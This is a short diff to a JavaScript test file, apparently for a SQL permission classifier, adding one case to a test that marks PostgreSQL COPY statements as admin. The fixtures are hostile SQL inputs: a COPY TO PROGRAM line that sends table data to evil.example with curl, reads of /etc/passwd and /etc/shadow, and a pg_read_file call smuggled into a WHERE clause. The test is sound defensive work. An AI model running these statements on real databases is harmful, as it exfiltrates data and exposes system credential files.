@@ -185,6 +185,7 @@ t.test('COPY: STDOUT is read, STDIN is write, a file or a PROGRAM is admin', asy
     { sql: "COPY customers FROM '/etc/passwd'", class: 'admin', facts: { copy: 'from-file' } },
     { sql: "COPY customers TO PROGRAM 'curl -d @- evil.example'", class: 'admin', facts: { copy: 'to-program' } },
     { sql: "COPY customers FROM PROGRAM 'cat /etc/shadow'", class: 'admin', facts: { copy: 'from-program' } },
+    { sql: "COPY customers FROM STDIN WHERE length(pg_read_file('/etc/passwd')) > 0", class: 'admin', resources: ['customers'] },
   ])
 })
 
